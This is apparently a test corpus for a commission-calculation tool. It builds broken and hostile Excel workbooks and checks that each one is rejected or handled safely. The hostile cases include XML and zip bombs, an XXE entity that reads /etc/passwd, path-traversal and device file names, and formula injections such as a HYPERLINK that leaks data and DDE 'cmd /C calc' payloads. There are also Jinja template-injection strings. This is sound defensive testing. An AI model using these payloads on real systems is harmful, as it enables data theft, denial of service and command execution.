"""A corpus of broken and hostile workbooks, each built from scratch by its own function.

Every case starts from the same small company (``company()``: one salesperson E1001 with a
2026-Q1 target and two sales worth 150,000, and a manager M1) and breaks one thing. A case
either expects exit status 2 with the exact messages listed (each naming sheet, cell and
column), or, where the input is only untidy and its intent is clear, a normal run whose
results a ``check`` verifies. The function's docstring says what is wrong with the file.
"""

from __future__ import annotations

import io
import struct
import zipfile
from collections.abc import Callable, Sequence
from dataclasses import dataclass
from datetime import date
from pathlib import Path

import openpyxl

from tests.end_to_end.corpus_tools import (
    AS_OF,
    SALES_HEADERS,
    Formula,
    Sheets,
    company,
    damaged,
    documents_say,
    documents_text,
    graded,
    ole_file,
    rewrite_part,
    warned,
    with_bomb,
    write_openpyxl,
    write_xlsxwriter,
)

__all__ = ["AS_OF", "CASES", "FORMULA_INJECTIONS", "Case", "company", "documents_text",
           "write_openpyxl"]


@dataclass(frozen=True)
class Case:
    name: str
    problem: str
    build: Callable[[Path], None]
    messages: tuple[str, ...] = ()
    check: Callable[[Path], None] | None = None
    args: tuple[str, ...] = ()

    @property
    def exit_code(self) -> int:
        return 2 if self.messages else 0


CASES: list[Case] = []


def case(*messages: str, check: Callable[[Path], None] | None = None,
         args: Sequence[str] = ()) -> Callable[[Callable[[Path], None]], Callable[[Path], None]]:
    """Register a builder: exit 2 with ``messages``, or a run that ``check`` verifies."""
    assert messages or check, "a case expects messages or checks results"

    def register(build: Callable[[Path], None]) -> Callable[[Path], None]:
        problem = " ".join((build.__doc__ or "").split())
        CASES.append(Case(build.__name__, problem, build, messages, check, tuple(args)))
        return build
    return register


# == the cases =============================================================================
# -- files that are not workbooks ---------------------------------------------------------

@case("is not an Excel workbook (.xlsx or .xlsm)")
def not_a_zip(path: Path) -> None:
    """A CSV file renamed to .xlsx."""
    path.write_text("employee_id,name\nE1001,Ann Lee\n", encoding="utf-8")


@case("is empty (0 bytes), expected an .xlsx or .xlsm file")
def empty_file(path: Path) -> None:
    """A file of no bytes (a failed download)."""
    path.write_bytes(b"")


@case("is a damaged or incomplete workbook (perhaps it was not copied completely)")
def truncated_workbook(path: Path) -> None:
    """The first half of a valid workbook: a copy that stopped halfway."""
    write_openpyxl(company(), path)
    data = path.read_bytes()
    path.write_bytes(data[:len(data) // 2])


@case("is a damaged workbook (", "; open it in Excel and save it again")
def damaged_sheet_data(path: Path) -> None:
    """A workbook whose zip is whole but one byte of its Sales sheet's compressed data is
    changed (a bad disk or a bad copy): found only when the sheet is read."""
    write_openpyxl(company(), path)
    with zipfile.ZipFile(path) as package:
        sales = package.getinfo("xl/worksheets/sheet3.xml")  # the third sheet written
    data = bytearray(path.read_bytes())
    start = sales.header_offset + 30 + len(sales.filename) + len(sales.extra)
    data[start + sales.compress_size // 2] ^= 0x55
    path.write_bytes(bytes(data))


@case("is password-protected; open it in Excel, remove the password")
def password_protected(path: Path) -> None:
    """A workbook encrypted with a password (Excel's 'Encrypt with Password')."""
    from msoffcrypto.format.ooxml import OOXMLFile

    plain = path.with_suffix(".plain.xlsx")
    write_openpyxl(company(), plain)
    encrypted = io.BytesIO()
    with plain.open("rb") as handle:
        OOXMLFile(handle).encrypt("secret", encrypted)
    plain.unlink()
    path.write_bytes(encrypted.getvalue())


@case("is an old-format Excel file (.xls); open it in Excel and save it as .xlsx")
def old_xls(path: Path) -> None:
    """An Excel 97-2003 .xls file (an OLE compound file with a Workbook stream)."""
    path.write_bytes(ole_file({"Workbook": b"\x09\x08\x10\x00\x00\x06\x05\x00"}))


@case("is a Word document, not an Excel workbook")
def word_document(path: Path) -> None:
    """A .docx renamed to .xlsx."""
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr("word/document.xml", "<document/>")


@case("is a zip archive but not an Excel workbook (it has no xl/ folder)")
def zip_of_other_files(path: Path) -> None:
    """A zip archive of notes renamed to .xlsx."""
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("notes.txt", "employee_id,name\n")


BOMB = "declares a document type (DTD) with <!DOCTYPE or <!ENTITY; Excel never writes that"


@case(f"its part xl/worksheets/sheet1.xml {BOMB}")
def xml_bomb_in_a_sheet(path: Path) -> None:
    """A billion-laughs XML bomb in the Employees sheet: 10^9 'lol's if expanded."""
    write_openpyxl(company(), path)
    rewrite_part(path, "xl/worksheets/sheet1.xml", with_bomb)


@case(f"its part xl/sharedStrings.xml {BOMB}")
def xml_bomb_in_the_shared_strings(path: Path) -> None:
    """The bomb in the shared strings table, where Excel keeps every text cell."""
    write_xlsxwriter(company(), path)
    rewrite_part(path, "xl/sharedStrings.xml", with_bomb)


@case(f"its part xl/workbook.xml {BOMB}")
def xml_bomb_in_the_workbook_part(path: Path) -> None:
    """The bomb in xl/workbook.xml, which every reader parses first (a sheet name)."""
    write_openpyxl(company(), path)
    rewrite_part(path, "xl/workbook.xml", with_bomb)


@case(f"its part xl/worksheets/sheet1.xml {BOMB}")
def xml_bomb_behind_a_long_comment(path: Path) -> None:
    """The bomb after 200 KB of XML comment, to slip past a scan of the first bytes."""
    write_openpyxl(company(), path)
    rewrite_part(path, "xl/worksheets/sheet1.xml",
                 lambda data: with_bomb(data, preamble=f"<!--{'x' * 200_000}-->"))


@case(f"its part xl/worksheets/sheet1.xml {BOMB}")
def external_entity(path: Path) -> None:
    """An external entity (XXE) that would read /etc/passwd into a name."""
    write_openpyxl(company(), path)
    rewrite_part(path, "xl/worksheets/sheet1.xml", lambda data: (
        b'<!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
        + data.replace(b"Ann Lee", b"&xxe;")))


@case("its part xl/worksheets/sheet1.xml unpacks to 4,294,967,280 bytes (more than "
      "1,073,741,824); refused as a possible zip bomb")
def zip_bomb(path: Path) -> None:
    """A sheet whose zip entry says it unpacks to 4 GB (a zip bomb's signature)."""
    write_openpyxl(company(), path)
    data = bytearray(path.read_bytes())
    name = b"xl/worksheets/sheet1.xml"
    entry = data.find(b"PK\x01\x02")
    while data[entry + 46:entry + 46 + len(name)] != name:
        entry = data.find(b"PK\x01\x02", entry + 4)
        assert entry >= 0, "no central directory record for the sheet"
    # The central directory record's uncompressed size field, at offset 24.
    data[entry + 24:entry + 28] = struct.pack("<I", 0xFFFFFFF0)
    path.write_bytes(bytes(data))


# -- workbooks without the expected structure ---------------------------------------------

@case("Employees: expected a sheet named Employees (员工), found none",
      "Targets: expected a sheet named Targets (目标), found none",
      "Sales: expected a sheet named Sales (销售), found none",
      "Reviews: expected a sheet named Reviews (评价), found none")
def empty_workbook(path: Path) -> None:
    """A new workbook with one empty Sheet1."""
    write_openpyxl({"Sheet1": []}, path)


@case("Employees: expected a header row naming employee_id (工号), name (姓名), hire_date "
      "(入职日期), base_salary (月基本工资) in the first 20 rows, found none",
      "Sales: expected a header row naming contract_id (合同编号), date (签约日期), "
      "employee_id (工号), customer_id (客户编号), amount (金额) in the first 20 rows")
def sheets_without_rows(path: Path) -> None:
    """The sheets exist with their names but hold nothing."""
    write_openpyxl({name: [] for name in company()}, path)


@case(check=graded())
def headers_on_row_3(path: Path) -> None:
    """Each sheet starts with a title row and a blank row; headers are on row 3."""
    sheets = company()
    write_openpyxl({name: [[f"{name} 2026 (HR)"], [], *rows]
                    for name, rows in sheets.items()}, path)


@case("Sales: expected a header row naming contract_id (合同编号), date (签约日期), "
      "employee_id (工号), customer_id (客户编号), amount (金额) in the first 20 rows, "
      "found none")
def headers_below_row_20(path: Path) -> None:
    """The Sales headers sit on row 25, below a long notes block."""
    sheets = company()
    sheets["Sales"] = [*([f"note {i}"] for i in range(24)), *sheets["Sales"]]
    write_openpyxl(sheets, path)


def _merge(sheet: str, cells: str) -> Callable[[openpyxl.Workbook], None]:
    return lambda book: book[sheet].merge_cells(cells)


@case("Employees row 1 name: expected a column named name (姓名), found none")
def header_merged_across_two_columns(path: Path) -> None:
    """The employee_id header merged over A1:B1 hides the name header under it."""
    write_openpyxl(company(), path, edit=_merge("Employees", "A1:B1"))


@case(check=graded())
def header_merged_down_over_two_header_rows(path: Path) -> None:
    """Two header rows: employee_id typed in A1 and merged down A1:A2, a group label
    'Person' merged over B1:C1, the other headers on row 2."""
    sheets = company()
    employees = sheets["Employees"]
    group = ["employee_id", "Person", None, *([None] * 4)]
    sheets["Employees"] = [group, [None, *employees[0][1:]], *employees[1:]]

    def merge(book: openpyxl.Workbook) -> None:
        book["Employees"].merge_cells("A1:A2")
        book["Employees"].merge_cells("B1:C1")
    write_openpyxl(sheets, path, edit=merge)


@case("Sales!C3 employee_id: expected a value in each row, found a cell merged with C2; "
      "unmerge the cells and fill in every row")
def data_cells_merged_down(path: Path) -> None:
    """One salesperson's id typed once and merged down over both sales rows (C2:C3)."""
    write_openpyxl(company(), path, edit=_merge("Sales", "C2:C3"))


@case(check=graded(sales="180000.00"))
def blank_rows_in_the_middle(path: Path) -> None:
    """Two blank rows between the sales, and a third sale below them."""
    def change(sheets: Sheets) -> None:
        sheets["Sales"][2:2] = [[], [None] * 6,
                                ["K3", date(2026, 3, 1), "E1001", "C3", "Cato", 30000]]
    damaged(change)(path)


@case("Sales!F6 amount: expected a number, found 'n/a'")
def blank_rows_then_a_bad_cell(path: Path) -> None:
    """Blank rows 4-5, then a sale whose amount is 'n/a' on Excel row 6."""
    def change(sheets: Sheets) -> None:
        sheets["Sales"][3:3] = [[], [],
                                ["K3", date(2026, 3, 1), "E1001", "C3", "Cato", "n/a"]]
    damaged(change)(path)


@case(check=graded())
def trailing_spaces_in_headers_and_ids(path: Path) -> None:
    """Headers ' employee_id ' and 'amount  ', ids 'E1001 ' and ' E1001', a non-breaking
    space and a zero-width space pasted along with an id."""
    def change(sheets: Sheets) -> None:
        sheets["Sales"][0] = [f" {h}  " for h in SALES_HEADERS]
        sheets["Sales"][1][2] = "E1001 "
        sheets["Sales"][2][2] = "\u00a0E1001\u200b"
        sheets["Targets"][1][0] = " E1001"
        sheets["Reviews"][0][0] = "Employee ID "
    damaged(change)(path)


@case(check=graded())
def full_width_headers_ids_and_numbers(path: Path) -> None:
    """Headers, ids and amounts typed with a Chinese input method: 'ｅｍｐｌｏｙｅｅ＿ｉｄ',
    'Ｅ１００１', '１００，０００' and sheet names ' ｓａｌｅｓ '."""
    def change(sheets: Sheets) -> None:
        sales = sheets.pop("Sales")
        sales[0] = ["ｃｏｎｔｒａｃｔ＿ｉｄ", "ｄａｔｅ", "ｅｍｐｌｏｙｅｅ＿ｉｄ",
                    "ｃｕｓｔｏｍｅｒ＿ｉｄ", "customer_name", "ａｍｏｕｎｔ"]
        sales[1][2], sales[1][5] = "Ｅ１００１", "１００，０００"
        sales[2][2], sales[2][5] = "Ｅ１００１", "５００００"
        sheets[" ｓａｌｅｓ "] = sales
        sheets["Reviews"][1][0] = "Ｅ１００１"
    damaged(change)(path)


@case(check=graded(employee="1001"))
def ids_as_numbers_in_one_sheet_and_text_in_another(path: Path) -> None:
    """Employee 1001 stored as a number in Employees, as text '1001' in Targets, as the
    float 1001.0 in Sales, and full-width '１００１' in Reviews; manager 7 as a number."""
    def change(sheets: Sheets) -> None:
        sheets["Employees"][1][0], sheets["Employees"][1][3] = 1001, 7
        sheets["Employees"][2][0] = 7
        sheets["Targets"][1][0] = "1001"
        sheets["Sales"][1][2] = sheets["Sales"][2][2] = 1001.0
        sheets["Reviews"][1][0] = "１００１"
    damaged(change)(path)


@case("Sales!C2 employee_id: expected an id (text, or a whole number of at most 15 "
      "digits), found 1001.5")
def id_as_a_fraction(path: Path) -> None:
    """An employee id typed as the number 1001.5."""
    def change(sheets: Sheets) -> None:
        sheets["Sales"][1][2] = 1001.5
    damaged(change)(path)


@case("Sales!C2 employee_id: expected an employee_id listed in Employees, found 'E 1001'")
def id_with_a_space_inside(path: Path) -> None:
    """'E 1001' is not E1001: a space inside an id is not untidiness that can be guessed."""
    def change(sheets: Sheets) -> None:
        sheets["Sales"][1][2] = "E 1001"
    damaged(change)(path)


# -- values ------------------------------------------------------------------------------

@case(check=graded(sales="190000.00"))
def dates_as_text_in_several_formats(path: Path) -> None:
    """Dates typed as text: 2026-01-10, 2026/2/10, 2026年3月5日, 2026.03.06, 20260307,
    and a hire date '2020年1月1日'."""
    def change(sheets: Sheets) -> None:
        sheets["Employees"][1][4] = "2020年1月1日"
        sales = sheets["Sales"]
        sales[1][1], sales[2][1] = "2026-01-10", "2026/2/10"
        sales.append(["K3", "2026年3月5日", "E1001", "C3", "Cato", 10000])
        sales.append(["K4", "2026.03.06", "E1001", "C3", "Cato", 10000])
        sales.append(["K5", "20260307", "E1001", "C3", "Cato", 20000])
    damaged(change)(path)


@case("Sales!B2 date: expected a date, found '10/01/2026'",
      "Sales!B3 date: expected a date, found '2026-02-30'")
def dates_ambiguous_or_impossible(path: Path) -> None:
    """'10/01/2026' (1 October or 10 January?) and '2026-02-30' (no such day)."""
    def change(sheets: Sheets) -> None:
        sheets["Sales"][1][1], sheets["Sales"][2][1] = "10/01/2026", "2026-02-30"
    damaged(change)(path)


@case("Employees!E2 hire_date: expected a date between 1900-01-01 and 2200-12-31, found "
      "'1850-01-01'",
      "Sales!B2 date: expected a date between 1900-01-01 and 2200-12-31, found 1")
def dates_out_of_range(path: Path) -> None:
    """A hire date in 1850 (Excel keeps dates before 1900 as text) and a sale dated with
    the serial number 1 (1899-12-31)."""
    def change(sheets: Sheets) -> None:
        sheets["Employees"][1][4] = "1850-01-01"
        sheets["Sales"][1][1] = 1
    damaged(change)(path)


@case("Sales!F2 amount: expected a number, found the Excel error #N/A",
      "Employees!G2 commission_rate: expected a rate such as 0.25 or 25%, found the Excel "
      "error #DIV/0!",
      "Reviews!C2 satisfaction: expected a number, found the Excel error #VALUE!")
def excel_error_values(path: Path) -> None:
    """Error values typed or left in cells: #N/A, #DIV/0!, #VALUE!."""
    def change(sheets: Sheets) -> None:
        sheets["Sales"][1][5] = "#N/A"
        sheets["Employees"][1][6] = "#DIV/0!"
        sheets["Reviews"][1][2] = "#VALUE!"
    damaged(change)(path)


@case("Sales!F3 amount: expected a number, found the Excel error #DIV/0!")
def formula_that_evaluated_to_an_error(path: Path) -> None:
    """An amount formula =50000/0 whose cached result is #DIV/0! (saved by Excel)."""
    sheets = company()
    sheets["Sales"][2][5] = Formula("=50000/0", "#DIV/0!")
    write_xlsxwriter(sheets, path)


@case(check=graded())
def formulas_with_cached_values(path: Path) -> None:
    """Amounts and a customer name computed by formulas Excel has calculated."""
    sheets = company()
    sheets["Sales"][1][5] = Formula("=40000+60000", 100000)
    sheets["Sales"][2][5] = Formula("=SUM(25000,25000)", 50000)
    sheets["Sales"][2][4] = Formula('=UPPER("bolt")', "BOLT")
    write_xlsxwriter(sheets, path)


@case("Sales!F2 amount: expected a value, found an empty cell",
      "Sales!F2: a formula with no cached value reads as empty")
def formula_without_a_cached_value_in_a_required_column(path: Path) -> None:
    """amount =40000+60000 saved by a program that does not calculate (no cached value)."""
    def change(sheets: Sheets) -> None:
        sheets["Sales"][1][5] = Formula("=40000+60000")
    damaged(change)(path)


@case(check=warned("Sales!E2", "a formula with no cached value reads as empty"))
def formula_without_a_cached_value_in_an_optional_column(path: Path) -> None:
    """customer_name =UPPER("acme") never calculated: a warning, and the run goes on."""
    def change(sheets: Sheets) -> None:
        sheets["Sales"][1][4] = Formula('=UPPER("acme")')
    damaged(change)(path)


@case("Employees!A3 employee_id: expected a unique employee_id, found E1001 again (first in "
      "row 2)")
def duplicate_ids_that_differ_only_in_width_and_spaces(path: Path) -> None:
    """E1001 and 'Ｅ１００１ ' are the same employee entered twice."""
    def change(sheets: Sheets) -> None:
        sheets["Employees"].insert(2, ["Ｅ１００１ ", "Ann Lee", "Sales", "M1",
                                       date(2020, 1, 1), 10000, 0.02])
    damaged(change)(path)


@case("Sales!A3 contract_id: expected a unique contract_id, found 5001 again (first in "
      "row 2)")
def duplicate_contract_as_number_and_text(path: Path) -> None:
    """Contract 5001 stored as a number on one row and as text '5001' on the next."""
    def change(sheets: Sheets) -> None:
        sheets["Sales"][1][0], sheets["Sales"][2][0] = 5001, "5001"
    damaged(change)(path)


@case(check=graded(sales="130000.00"))
def negative_amount_is_a_return(path: Path) -> None:
    """A sale of -20,000: a return, which lowers the quarter's sales (SPEC section 10)."""
    def change(sheets: Sheets) -> None:
        sheets["Sales"].append(["K3", date(2026, 3, 1), "E1001", "C1", "Acme", -20000])
    damaged(change)(path)


@case("Employees!F2 base_salary: expected a number of 0 or more, found -10000",
      "Targets!C2 sales_target: expected a number of 0 or more, found -300000")
def negative_salary_and_target(path: Path) -> None:
    """A negative base salary and a negative sales target: no reading makes sense."""
    def change(sheets: Sheets) -> None:
        sheets["Employees"][1][5] = -10000
        sheets["Targets"][1][2] = -300000
    damaged(change)(path)


@case("Sales!F2 amount: expected a number of at most 15 digits, found 1e+20",
      "Employees!F2 base_salary: expected a number of at most 15 digits, found '1e400'")
def enormous_numbers(path: Path) -> None:
    """An amount of 10^20 and a salary typed as the text '1e400'."""
    def change(sheets: Sheets) -> None:
        sheets["Sales"][1][5] = 1e20
        sheets["Employees"][1][5] = "1e400"
    damaged(change)(path)


@case("Employees!F2 base_salary: expected a number, found the value TRUE",
      "Sales!F3 amount: expected a number, found the date 2026-01-01")
def booleans_and_dates_in_number_columns(path: Path) -> None:
    """A checkbox value TRUE as a salary and a date as an amount."""
    def change(sheets: Sheets) -> None:
        sheets["Employees"][1][5] = True
        sheets["Sales"][2][5] = date(2026, 1, 1)
    damaged(change)(path)


@case(check=graded())
def rates_and_money_typed_as_text(path: Path) -> None:
    """commission_rate '2%', '２％'-style text, amounts '100,000' and ' 50000 '."""
    def change(sheets: Sheets) -> None:
        sheets["Employees"][1][6] = "２％"
        sheets["Sales"][1][5], sheets["Sales"][2][5] = "100,000", " 50000 "
    damaged(change)(path)


@case("Sales!G1 amount: expected one column amount, found it twice")
def a_column_twice(path: Path) -> None:
    """Two columns headed 'amount' (net and gross?): which one counts is not clear."""
    def change(sheets: Sheets) -> None:
        for row in sheets["Sales"]:
            row.append(row[5])
    damaged(change)(path)


LONG_NAME = "Ann " + "Lee-" * 1250  # 5,004 characters: long, but an Excel cell holds it


def _long_name_kept(out: Path) -> None:
    graded(name=LONG_NAME.strip())(out)
    book = openpyxl.load_workbook(out / "results.xlsx", read_only=True)
    names = [row[1] for row in book["Scores"].iter_rows(min_row=2, values_only=True)]
    assert names == [LONG_NAME.strip()]


@case(check=_long_name_kept)
def very_long_name(path: Path) -> None:
    """A name of 5,004 characters: kept whole in the exports and the results workbook."""
    def change(sheets: Sheets) -> None:
        sheets["Employees"][1][1] = LONG_NAME
    damaged(change)(path)


@case("Sales!E2 customer_name: expected text of at most 32,767 characters (an Excel cell's "
      "limit), found 'xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx...' (40,000 characters)")
def text_longer_than_a_cell_holds(path: Path) -> None:
    """40,000 characters in one cell: more than Excel can hold, so not from Excel (and
    written into the sheet XML directly: openpyxl cuts text at 32,767)."""
    def change(sheets: Sheets) -> None:
        sheets["Sales"][1][4] = "LONG-TEXT"
    damaged(change)(path)
    rewrite_part(path, "xl/worksheets/sheet3.xml",
                 lambda data: data.replace(b"LONG-TEXT", b"x" * 40000))


def _control_characters_dropped(out: Path) -> None:
    graded(name="Ann Lee")(out)
    texts = documents_text(out)  # python-docx parses every document: the XML is valid
    assert texts and all("Ann Lee" in t for t in texts.values())


@case(check=_control_characters_dropped, args=("--documents",))
def control_characters_in_text(path: Path) -> None:
    """A bell, an escape sequence and a NUL pasted into a name and a comment (Excel
    stores them as _x0007_ escapes); a .docx cannot hold them."""
    sheets = company()
    sheets["Employees"][1][1] = "Ann\x07 Lee\x00"
    sheets["Reviews"][1][5] = "Good\x1b[31m quarter\x0b"
    write_xlsxwriter(sheets, path)


# -- hostile content ---------------------------------------------------------------------

def _names_stay_inside(out: Path) -> None:
    graded(employee="CON", name="../x")(out)
    documents = out / "documents"
    files = [p for p in documents.rglob("*") if p.is_file()]
    assert files
    for file in files:
        relative = file.resolve().relative_to(documents.resolve())
        assert ".." not in relative.parts
        assert all(part.split(".")[0].upper() != "CON" for part in relative.parts)
    assert {p.name for p in out.parent.iterdir()} == {"in.xlsx", "out"}


@case(check=_names_stay_inside, args=("--documents",))
def names_dangerous_as_file_names(path: Path) -> None:
    """Employee id CON (a Windows device), name '../x', manager named 'a/b': the
    documents' folders and files are named after them."""
    def change(sheets: Sheets) -> None:
        sheets["Employees"][1][:2] = ["CON", "../x"]
        sheets["Employees"][2][1] = "a/b"
        sheets["Targets"][1][0] = sheets["Reviews"][1][0] = "CON"
        sheets["Sales"][1][2] = sheets["Sales"][2][2] = "CON"
    damaged(change)(path)


# Each lands in a result sheet: names and departments in Scores, contract and customer
# ids in Commission lines.
FORMULA_INJECTIONS = {
    "name": '=HYPERLINK("http://example.invalid/?leak="&A1,"Click for bonus")',
    "department": "+1+cmd|' /C calc'!A0",
    "contract_id": "-2+3",
    "customer_id": "@SUM(A1:A9)",
    "first_customer_id": "=1+1",
}


def _no_formula_anywhere(out: Path) -> None:
    graded(name=FORMULA_INJECTIONS["name"], department=FORMULA_INJECTIONS["department"])(out)


@case(check=_no_formula_anywhere, args=("--documents",))
def formula_injection_strings(path: Path) -> None:
    """Text that Excel would run as a formula if written as one: =HYPERLINK(...), +1...,
    -2+3, @SUM(...), =1+1, in a name, a department, contract and customer ids, comments;
    the sales are collected, so commission lines show the ids."""
    def change(sheets: Sheets) -> None:
        injected = FORMULA_INJECTIONS
        sheets["Employees"][1][1:3] = [injected["name"], injected["department"]]
        sales = sheets["Sales"]
        sales[0] += ["collected_amount", "collected_date"]
        sales[1] += [100000, date(2026, 1, 20)]
        sales[2] += [50000, date(2026, 2, 20)]
        sales[1][3] = injected["first_customer_id"]
        sales[2][0], sales[2][3] = injected["contract_id"], injected["customer_id"]
        sheets["Reviews"][1][5:7] = ["=cmd|' /C calc'!A0", "@SUM(1+1)*cmd"]
        sheets["Targets"] += [["E1001", f"2026-0{m}", 100000, None] for m in (1, 2, 3)]
    damaged(change)(path)


TEMPLATE_INJECTIONS = ["{{ 7*7 }}", "{% for x in range(10**9) %}x{% endfor %}",
                       "{{ ''.__class__.__mro__[1].__subclasses__() }}", "${7*7}",
                       "{{ config }}{%p if True %}"]


@case(check=documents_say(*TEMPLATE_INJECTIONS), args=("--documents",))
def template_injection_strings(path: Path) -> None:
    """Jinja and other template code in a name, a department, a comment and the
    strengths: documents must print it, never run it."""
    def change(sheets: Sheets) -> None:
        sheets["Employees"][1][1:3] = TEMPLATE_INJECTIONS[:2]
        sheets["Reviews"][1][5:7] = TEMPLATE_INJECTIONS[2:4]
        sheets["Employees"][2][1] = TEMPLATE_INJECTIONS[4]
    damaged(change)(path)
